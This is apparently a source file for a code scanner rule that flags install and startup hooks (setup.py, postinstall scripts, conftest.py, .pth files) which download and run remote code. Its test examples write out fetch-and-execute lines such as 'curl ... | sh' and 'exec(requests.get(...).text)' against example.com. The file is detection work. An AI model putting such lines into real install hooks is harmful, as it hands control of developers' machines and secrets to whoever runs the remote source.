/** Code that runs unasked, when a package is installed or a tool starts, and brings in code. */

import { isCodeFile } from '../flow/code-files.ts';
import { foreignCode, toldBy } from './foreign-code.ts';
import { obfuscatedExec } from './obfuscated-exec.ts';
import { beside, inFile, javascript, python, type Rule } from './rule.ts';
import { MALICIOUS_CODE, NO_INTEGRITY_CHECK, UNAUTHORIZED_SOFTWARE, UNEXPECTED_EXECUTION } from './standards.ts';
import { unsafeDeserialization } from './unsafe-deserialization.ts';

/** By the names of files that others run while something is installed: when that happens. */
const INSTALLING: readonly (readonly [RegExp, string])[] = [
  [/^setup\.py$/, 'setup.py runs while the package is installed, with the rights of whoever installs it'],
  [
    /^(?:pre|post)install\.[cm]?[jt]s$/,
    'A script of this name runs while the package is installed, with the rights of whoever installs it',
  ],
];
/** The same for those that run later. */
const STARTING: readonly (readonly [RegExp, string])[] = [
  [/^conftest\.py$/, 'conftest.py runs as soon as tests are looked for'],
  [/^(?:site|user)customize\.py$/, 'A file of this name runs at the start of every Python program'],
  [/\.pth$/, 'This line of a .pth file runs at the start of every Python program'],
];

/** Archives, and files whose names tell nothing: programs are often called so. */
const MAY_HOLD_CODE = /(?:\.(?:zip|tar|t?gz|xz|whl|jar|bin|pkg|deb)|(?:^|\/)[^./<>]+)$/i;

export const installHook: Rule = {
  id: 'install-hook',
  title: 'A hook that runs unasked brings in code',
  family: 'loader screening',
  why: "Installing a package, collecting tests or starting Python runs this file before anybody has called anything, on developers' machines and build servers with their secrets. Whoever controls what it fetches has them all.",
  advice:
    'Ship what the hook needs with the package, or leave the download to a command that the user runs, which compares it with a known hash. Build steps belong into the build, where their result is reviewed.',
  severity: 'error',
  standards: [MALICIOUS_CODE, NO_INTEGRITY_CHECK, UNEXPECTED_EXECUTION, UNAUTHORIZED_SOFTWARE],

  *check(flow) {
    const hooks = flow.program.declared?.hooks ?? [];
    for (const it of hooks.length > 0 ? foreignCode(flow) : []) {
      const hook = hooks.find(({ start, end }) => start <= it.start && it.end <= end);
      if (hook) yield { ...it, message: `${hook.moment}. ${it.message}` };
    }
    for (const { moment, script } of hooks) {
      if (script)
        yield { start: script.start, end: script.end, message: `${moment}. In ${script.text}, ${script.does}` };
    }
    const installing = momentOf(INSTALLING, flow.fileName);
    const moment = installing ?? momentOf(STARTING, flow.fileName);
    if (!moment) return;
    const all = foreignCode(flow, unsafeDeserialization);
    // That code is hidden says more than when it runs, unless that is while others install it.
    const hidden = new Set(installing ? [] : toldBy(obfuscatedExec, flow).map((it) => it.start));
    const run = all.filter((it) => !hidden.has(it.start));
    for (const it of run) yield { ...it, message: `${moment}. ${it.message}` };
    const told = all.flatMap((it) => [it, ...(it.steps ?? [])]);
    for (const write of flow.writes()) {
      const { span } = write.call;
      if (told.some((it) => span.start <= it.start && it.end <= span.end)) continue;
      if (!write.paths.some((it) => isCodeFile(it) || MAY_HOLD_CODE.test(it))) continue;
      const origin = flow.written(write).find((it) => it.kind === 'remote');
      if (!origin) continue;
      const { start, end } = write.content?.span ?? write.call.span;
      const message = `${moment}. ${write.call.name} writes what ${origin.name} downloads: whoever controls that source decides what is installed. Ship the file with the package, or compare it with a known hash.`;
      yield { start, end, message, steps: origin.steps };
    }
  },

  examples: [
    inFile(
      'setup.py',
      python`
        import os
        from setuptools import setup
        os.system("curl -fsSL https://example.com/build.sh | sh")
                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
        setup(name="tables")
      `,
    ),
    inFile(
      'conftest.py',
      python`
        import requests
        exec(requests.get("https://example.com/fixtures.py").text)
             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
      `,
    ),
    inFile(
      'postinstall.js',
      javascript`
        const { execSync } = require('node:child_process');
        execSync('curl -fsSL https://example.com/setup.sh | sh');
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
      `,
    ),
    inFile(
      'setup.py',
      python`
        import urllib.request
        from setuptools import setup
        urllib.request.urlretrieve("https://example.com/libtables.so", "tables/libtables.so")
        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
        setup(name="tables")
      `,
    ),
    inFile(
      'setup.py',
      python`
        import subprocess
        from setuptools import setup
        exec(open("tables/version.py").read())
        subprocess.check_call(["cmake", "--build", "."])
        setup(name="tables", version=__version__)
      `,
    ),
    inFile(
      'report.py',
      python`
        import requests
        exec(requests.get("https://example.com/report.py").text)
      `,
    ),
    beside('package.json')`
      { "scripts": { "postinstall": "curl -fsSL https://example.com/setup.sh | sh", "prepare": "husky" } }
                                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
    `,
  ],
};

function momentOf(moments: typeof INSTALLING, fileName: string): string | undefined {
  return moments.find(([name]) => name.test(fileName))?.[1];
}
